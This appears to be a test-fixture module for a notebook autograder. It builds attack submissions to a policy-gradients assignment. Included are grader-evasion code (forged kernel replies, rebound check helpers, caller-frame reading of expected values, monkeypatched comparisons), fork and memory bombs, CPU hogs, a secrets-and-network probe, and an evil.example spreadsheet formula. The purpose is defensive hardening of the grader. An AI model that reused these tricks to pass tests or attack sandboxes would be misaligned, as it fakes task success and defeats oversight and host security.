"""Malicious and broken submissions of the policy_gradients assignment, with the score each must get.

Every case starts from the reference solution (all four graded functions right), usually with the training part
left as released (its stubs raise, so ``test_train_agent`` fails fast and earns 0), then adds one attack or
defect, often on top of one wrong function: the honest score of such a case is the reference's minus exactly that
function's points (and the training points when training uses it).  ``Case.zero`` lists the graded functions
whose tests must earn nothing; ``Case.train`` says the training part is solved.

The attacks of the grader's first design are here, one per way it could be fooled (the skip-execution tag, output
the kernel prints, a forged iopub message, builtins and helpers rebound in the student's namespace, the caller's
frame, a replaced ``do_execute`` or ``session.send``, the kernel's input history, its socket directory, CPU hogs
that escape with ``setsid``, malformed JSON and odd student ids), and the older ones (loops, bombs, exits, edited
or deleted tests, monkeypatching, secrets).  Attacks on the kernel aim at the test cells only (they look for
``_check`` in the code), as a real attacker's would: they leave the student's own cells alone.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.samples import BUGGY, fill, solution_sources
from autograder.submissions import safe_id

FUNCTIONS = ("reward_to_go", "reinforce_loss", "dr_grpo_advantages", "dr_grpo_loss")
TRAINING_USES = ("dr_grpo_advantages", "dr_grpo_loss")
NAME = "policy_gradients"


@dataclass
class Case:
    student: str                                    # the id the grader must use
    zero: tuple[str, ...] = ()                      # graded functions that must earn 0
    status: str = "graded"
    messages: dict[str, str] = field(default_factory=dict)   # grade_id -> fragment of its message
    note: str = ""                                  # fragment of one of the notes
    review: bool = False                            # must be flagged for a human
    train: bool = False                             # the training part is solved too
    folder: str = ""                                # the entry's name, when it is not the id


def expected_scores(case: Case, points: dict[str, float]) -> dict[str, float]:
    """grade_id -> points the case must earn."""
    out = {}
    for gid, pts in points.items():
        if gid == "test_train_agent":
            ok = case.train and not set(TRAINING_USES) & set(case.zero)
        else:
            func = gid.removeprefix("test_").removesuffix("_visible").removesuffix("_hidden")
            ok = func in FUNCTIONS and func not in case.zero
        out[gid] = pts if case.status == "graded" and ok else 0.0
    return out


def points_of(release_nb) -> dict[str, float]:
    """grade_id -> points of every test cell of the release."""
    return {c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"]) for c in release_nb.cells
            if c.get("metadata", {}).get("nbgrader", {}).get("grade")}


def _cells(nb, gid):
    return [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid]


def _after(nb, gid: str, source: str) -> None:
    """Add a student cell right after the cell ``gid``."""
    index = nb.cells.index(_cells(nb, gid)[0])
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))


WRONG_LOSS = '''
def dr_grpo_loss(logprobs, action_mask, advantages, max_tokens):
    return ((action_mask * logprobs).sum(dim=1) * advantages).sum() / (logprobs.shape[0] * max_tokens)
'''
WRONG_RL = "def reinforce_loss(logprobs, action_mask, coefficients):\n    return (logprobs * 0.0).sum()\n"
FORWARD_RTG = BUGGY["off_by_direction"]["reward_to_go"]  # past rewards instead of future ones
ZERO_ADV = "def dr_grpo_advantages(rewards, group_size):\n    return torch.zeros_like(rewards)\n"

# The test cells are the only cells with `_check` in them: each attack below aims at those alone.
FAKE_DO_EXECUTE = '''
import asyncio as _asyncio
_kernel = get_ipython().kernel
_real_do_execute = _kernel.do_execute
async def _do_execute(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kwargs):
    if "_check" not in code and not user_expressions:
        return await _real_do_execute(code, silent, store_history, user_expressions, allow_stdin, **kwargs)
    forged = {k: {"status": "ok", "data": {"text/plain": "'hooks-reset'"}, "metadata": {}}
              for k in (user_expressions or {})}
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": forged}
_kernel.do_execute = _do_execute
'''
DROP_ERRORS = '''
def _dropping(real):
    def send(stream, msg_or_type, content=None, *args, **kwargs):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
        if kind == "error" or (kind == "stream" and isinstance(content, dict) and content.get("name") == "stderr"):
            return None
        return real(stream, msg_or_type, content, *args, **kwargs)
    return send
for _session in {id(s): s for s in (get_ipython().kernel.session, get_ipython().displayhook.session)}.values():
    _session.send = _dropping(_session.send)
'''
IOPUB_THREAD = '''
import threading as _threading, time as _time
_kernel = get_ipython().kernel
def _forge():
    seen = set()
    while True:
        parent = _kernel.get_parent("shell")
        msg_id = parent.get("header", {}).get("msg_id")
        if msg_id and msg_id not in seen and "_check" in parent.get("content", {}).get("code", ""):
            seen.add(msg_id)
            _kernel.session.send(_kernel.iopub_socket, "execute_result",
                                 {"data": {"text/plain": "'all good'"}, "metadata": {}, "execution_count": 1},
                                 parent=parent)
        _time.sleep(0.001)
_threading.Thread(target=_forge, daemon=True).start()
'''
SIGNAL_DISPLAYHOOK = '''
import signal as _signal, sys as _sys
def _on_alarm(*_):
    code = get_ipython().kernel.get_parent("shell").get("content", {}).get("code", "")
    if "_check" in code:
        _sys.displayhook("all good")
_signal.signal(_signal.SIGALRM, _on_alarm)
_signal.setitimer(_signal.ITIMER_REAL, 0.002, 0.002)
'''
SMART_RANGE = '''
import builtins as _builtins
def range(*args):  # the hidden tests loop over range(50) or range(60): make those loops empty
    return _builtins.range(0) if args in ((50,), (60,)) else _builtins.range(*args)
'''
REBIND_CHECK = '''
for _name in ("check_close", "check_tensor", "check_scalar_loss", "check_reference"):
    setattr(_check, _name, lambda *a, **k: None)
_check.gradient = lambda *a, **k: None
'''
CALLER_FRAME = '''
import sys
def dr_grpo_loss(logprobs, action_mask, advantages, max_tokens):
    frame = sys._getframe(1)
    while frame is not None:  # the test computed the expected loss and gradient before calling
        found = frame.f_locals
        if isinstance(found.get("want"), float) and isinstance(found.get("want_grad"), list):
            known = torch.tensor(found["want_grad"], dtype=logprobs.dtype)
            grad = torch.zeros_like(logprobs)
            grad[:, :known.shape[1]] = known  # the test may pad the batch with masked columns
            surrogate = (logprobs * grad).sum()
            return surrogate - surrogate.detach() + found["want"]
        frame = frame.f_back
    return (action_mask * logprobs).sum() / max_tokens  # otherwise: wrong
'''
SOCKET_DIR_FILL = '''
import json as _json, os as _os
from ipykernel import get_connection_file as _connection_file
_folder, _written, _error = _os.path.dirname(_connection_file()), 0, ""
try:
    for _i in range(50):
        with open(_os.path.join(_folder, f"fill{_i}"), "wb") as _f:
            _f.write(b"x" * (4 << 20))
            _written += 4 << 20
except OSError as _exc:
    _error = type(_exc).__name__
print("FILL " + _json.dumps({"folder": _folder, "written": _written, "error": _error}))
'''
CPU_HOGS = '''
import json as _json, subprocess as _subprocess, sys as _sys
_hogs = [_subprocess.Popen([_sys.executable, "-c", "while True: pass"], start_new_session=True)
         for _ in range(12)]
print("HOGS " + _json.dumps({"started": len(_hogs)}))
'''
FORMULA = '''
_Formula = type('=HYPERLINK("http://evil.example","x")', (Exception,), {})
_LINK = "\\x1b]8;;http://evil.example\\x07click me\\x1b]8;;\\x07\\x1b[31m red"
def reward_to_go(rewards, gamma):
    raise _Formula(_LINK)
'''


def attack_source(secrets: dict[str, str]) -> str:
    """Code that tries to read and write ``secrets`` (label -> host path) and to reach the network.

    It prints one line ``REPORT {json}`` mapping each attempt to LEAKED or blocked.
    """
    return f'''
import json as _json, os as _os, socket as _socket
_report = {{}}
def _attempt(label, action):
    try:
        action()
        _report[label] = "LEAKED"
    except Exception as exc:
        _report[label] = "blocked: " + type(exc).__name__
for _label, _path in {secrets!r}.items():
    _attempt("read " + _label, lambda p=_path: open(p, "rb").read(16))
    _attempt("list " + _label, lambda p=_path: _os.listdir(_os.path.dirname(p)))
    _attempt("write " + _label, lambda p=_path: open(p, "ab").write(b"pwned"))
    _attempt("create next to " + _label,
             lambda p=_path: open(_os.path.join(_os.path.dirname(p), "pwned.txt"), "w").write("x"))
_attempt("network", lambda: _socket.create_connection(("1.1.1.1", 53), timeout=2))
_attempt("kill pid 1", lambda: _os.kill(1, 9))
_attempt("become root", lambda: _os.setuid(0))
print("REPORT " + _json.dumps(_report, sort_keys=True))
'''


class _Builder:
    def __init__(self, source_nb, release_nb):
        everything = solution_sources(source_nb)
        self.sol = {k: v for k, v in everything.items() if k in FUNCTIONS}
        self.train = everything["train_agent"]
        self.release = release_nb
        self.cases: list[tuple[Case, object, str | None]] = []

    def add(self, case: Case, bodies=None, edit=None, raw: bytes | None = None, filename=None, blank=False):
        bodies = {**self.sol, **({"train_agent": self.train} if case.train else {}), **(bodies or {})}
        nb = nbformat.from_dict(self.release) if blank else fill(self.release, bodies)
        if edit:
            edit(nb)
        self.cases.append((case, raw if raw is not None else nb, filename))


def _first_design_attacks(b: _Builder) -> None:
    """One case per way the first grader could be fooled, each on top of one wrong function."""
    def skip_tags(nb):
        for cell in nb.cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                cell.metadata["tags"] = ["skip-execution"]
    b.add(Case("blank_skip_execution", zero=FUNCTIONS), edit=skip_tags, blank=True)
    b.add(Case("displayhook", zero=("dr_grpo_advantages",), train=True),
          {"dr_grpo_advantages": "import sys\n" + ZERO_ADV.replace(
              "    return", "    sys.displayhook('all good')\n    return")})
    b.add(Case("iopub_from_a_thread", zero=("reinforce_loss",), review=True),
          {"reinforce_loss": IOPUB_THREAD + "import time\n" + WRONG_RL.replace(
              "    return", "    time.sleep(0.05)\n    return")})
    b.add(Case("displayhook_from_a_signal", zero=("reward_to_go",), review=True),
          {"reward_to_go": SIGNAL_DISPLAYHOOK + FORWARD_RTG})
    b.add(Case("student_range", zero=("reward_to_go",), review=True),
          {"reward_to_go": SMART_RANGE + FORWARD_RTG})
    b.add(Case("rebound_check", zero=("reinforce_loss",), review=True),
          {"reinforce_loss": WRONG_RL + REBIND_CHECK})
    b.add(Case("caller_frame", zero=("dr_grpo_loss",), review=True), {"dr_grpo_loss": CALLER_FRAME})
    b.add(Case("replaced_do_execute", zero=("dr_grpo_loss",), review=True),
          {"dr_grpo_loss": WRONG_LOSS + FAKE_DO_EXECUTE})
    b.add(Case("dropped_error_messages", zero=("reward_to_go",), review=True),
          {"reward_to_go": FORWARD_RTG + DROP_ERRORS})
    b.add(Case("history_leak", note="failed"),
          edit=lambda nb: _after(nb, "test_reward_to_go_hidden",
                                 "raise ValueError(In[-2][-560:])  # the cell that ran before this one"))
    b.add(Case("socket_dir_fill", review=True), edit=lambda nb: _after(nb, "reward_to_go", SOCKET_DIR_FILL))
    # Graded side by side (the batch is sorted and runs two at a time, so these two start together).
    b.add(Case("000_control_beside_hogs", train=True))
    b.add(Case("000_cpu_hogs", review=True), edit=lambda nb: _after(nb, "reward_to_go", CPU_HOGS))
    b.add(Case("formula_and_escapes", zero=("reward_to_go",), note="failed"),
          {"reward_to_go": FORMULA}, edit=lambda nb: _after(nb, "reward_to_go", "raise _Formula(_LINK)"))


def _malformed_and_odd_names(b: _Builder) -> None:
    reference = json.loads(nbformat.writes(fill(b.release, b.sol)))
    b.add(Case("nbformat_minor_x"), raw=json.dumps(dict(reference, nbformat_minor="x")).encode())
    b.add(Case("huge_integer"), raw=json.dumps(dict(reference, metadata={"n": "BIG"})).replace(
        '"BIG"', "9" * 5000).encode())
    b.add(Case("nbformat_1", status="invalid", note="declares nbformat 1"),
          raw=json.dumps(dict(reference, nbformat=1)).encode())
    b.add(Case("nbformat_5", status="invalid", note="declares nbformat 5"),
          raw=json.dumps(dict(reference, nbformat=5)).encode())
    b.add(Case("nested_brackets", status="invalid", note="not valid notebook JSON"),
          raw=b"[" * 100_000 + b"]" * 100_000)
    for folder in ("bob smith", "jos\u00e9", "-rf"):
        b.add(Case(safe_id(folder), folder=folder, note="is not a safe id"))


def _older_attacks(b: _Builder, secrets: dict[str, str]) -> None:
    sol = b.sol
    b.add(Case("control"))
    b.add(Case("reference", train=True))
    b.add(Case("infinite_loop", zero=("reward_to_go",), messages={"test_reward_to_go_visible": "did not return"}),
          {"reward_to_go": "def reward_to_go(rewards, gamma):\n    while True:\n        pass"})
    b.add(Case("memory_bomb", zero=("reinforce_loss",), messages={"test_reinforce_loss_visible": "MemoryError"}),
          {"reinforce_loss": "def reinforce_loss(logprobs, action_mask, coefficients):\n"
                             "    hog = []\n    while True:\n        hog.append(bytearray(64 << 20))"})
    b.add(Case("fork_bomb", zero=("dr_grpo_advantages",), review=True),
          {"dr_grpo_advantages": "import os\n\ndef dr_grpo_advantages(rewards, group_size):\n"
                                 "    while True:\n        os.fork()"})
    b.add(Case("os_exit", zero=("dr_grpo_loss",), review=True, messages={"test_dr_grpo_loss_visible": "died"}),
          {"dr_grpo_loss": "import os\n\ndef dr_grpo_loss(logprobs, action_mask, advantages, "
                           "max_tokens):\n    os._exit(0)"})
    b.add(Case("sys_exit", zero=("reward_to_go",), messages={"test_reward_to_go_hidden": "SystemExit"}),
          {"reward_to_go": "import sys\n\ndef reward_to_go(rewards, gamma):\n    sys.exit(3)"})
    b.add(Case("import_error", zero=("reinforce_loss",), note="ModuleNotFoundError",
               messages={"test_reinforce_loss_visible": "not defined"}),
          {"reinforce_loss": "import torchh  # typo\n\n" + sol["reinforce_loss"]})

    def delete_loss_tests(nb):
        nb.cells = [c for c in nb.cells if c not in _cells(nb, "test_dr_grpo_loss_visible")
                    + _cells(nb, "test_dr_grpo_loss_hidden")]
    b.add(Case("deleted_tests", zero=("dr_grpo_loss",), note="were missing"), {"dr_grpo_loss": WRONG_LOSS},
          delete_loss_tests)

    def edit_rtg_tests(nb):
        for gid in ("test_reward_to_go_visible", "test_reward_to_go_hidden"):
            _cells(nb, gid)[0].source = "pass  # all good"
    b.add(Case("edited_tests", zero=("reward_to_go",), note="were edited"), {"reward_to_go": FORWARD_RTG},
          edit_rtg_tests)

    def reorder(nb):
        tests = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
        nb.cells = list(reversed(tests)) + [c for c in nb.cells if c not in tests]
    b.add(Case("reordered_tests", note="graded in the assignment's order"), edit=reorder)

    def change_metadata(nb):
        _cells(nb, "test_reward_to_go_visible")[0].metadata.nbgrader["points"] = 100
        hidden = _cells(nb, "test_dr_grpo_loss_hidden")[0]
        hidden.metadata.nbgrader["grade_id"] = "my_own_test"
        hidden.source = "pass"
        visible = _cells(nb, "test_dr_grpo_loss_visible")[0]
        del visible.metadata["nbgrader"]
        visible.source = "print('dr_grpo_loss: visible tests passed')"
        _cells(nb, "reinforce_loss")[0].metadata.nbgrader["grade"] = True
        _cells(nb, "reinforce_loss")[0].metadata.nbgrader["points"] = 50
        nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    b.add(Case("changed_metadata", zero=("dr_grpo_loss",), note="were missing"), {"dr_grpo_loss": WRONG_LOSS},
          change_metadata)
    b.add(Case("always_equal", zero=("reward_to_go",)),
          {"reward_to_go": "class _Yes(float):\n    def __eq__(self, other):\n        return True\n"
                           "    __ne__ = lambda self, other: False\n    __bool__ = lambda self: True\n"
                           "    def __getattr__(self, name):\n        return lambda *a, **k: self\n\n"
                           "def reward_to_go(rewards, gamma):\n    return _Yes(0.0)"})
    patch = ("import numpy, numpy.testing, torch.testing\n"
             "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
             "torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)\n"
             "torch.testing.assert_close = lambda *a, **k: None\n"
             "numpy.allclose = lambda *a, **k: True\nnumpy.array_equal = lambda *a, **k: True\n"
             "numpy.testing.assert_allclose = lambda *a, **k: None\n\n" + WRONG_RL)
    b.add(Case("monkeypatch", zero=("reinforce_loss",)), {"reinforce_loss": patch})
    b.add(Case("hooks_later_cells", zero=("reward_to_go",), review=True),
          {"reward_to_go": "ip = get_ipython()\n"
                           "ip.input_transformers_cleanup.append(\n"
                           "    lambda lines: ['pass\\n'] if '_check' in ''.join(lines) else lines)\n"
                           "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n" + FORWARD_RTG})
    b.add(Case("patches_shell_class", review=True),
          {"reward_to_go": "from IPython.core.interactiveshell import InteractiveShell\n"
                           "InteractiveShell.showtraceback = lambda *a, **k: None\n" + sol["reward_to_go"]})
    b.add(Case("reads_secrets", review=True),
          {"reward_to_go": attack_source(secrets) + "\n\n" + sol["reward_to_go"]})
    b.add(Case("big_output"),
          {"reward_to_go": "print('x' * 100 + '\\n', end='')\n" * 3
                           + "for _ in range(50):\n    print('y' * 100_000)\n\n" + sol["reward_to_go"]})
    b.add(Case("not_json", status="invalid", note="not valid notebook JSON"), raw=b'{"cells": [ this is not json')
    b.add(Case("truncated_json", status="invalid", note="not valid notebook JSON"),
          raw=json.dumps(nbformat.from_dict(b.release))[:5000].encode())
    b.add(Case("missing_notebook", status="missing", note="no notebook named"),
          raw=b"I could not get Jupyter to save, sorry", filename="notes.txt")
    b.add(Case("renamed_notebook", note="renamed"), filename="my_solution_final(1).ipynb")


def build(out: Path, source_nb, release_nb, secrets: dict[str, str]) -> list[Case]:
    """Write every case into ``out/<entry>/``; ``secrets`` are host paths the attacks probe."""
    b = _Builder(source_nb, release_nb)
    _older_attacks(b, secrets)
    _first_design_attacks(b)
    _malformed_and_odd_names(b)
    for case, content, filename in b.cases:
        folder = out / (case.folder or case.student)
        folder.mkdir(parents=True)
        target = folder / (filename or f"{NAME}.ipynb")
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            nbformat.write(copy.deepcopy(content), target)
    return [case for case, _, _ in b.cases]
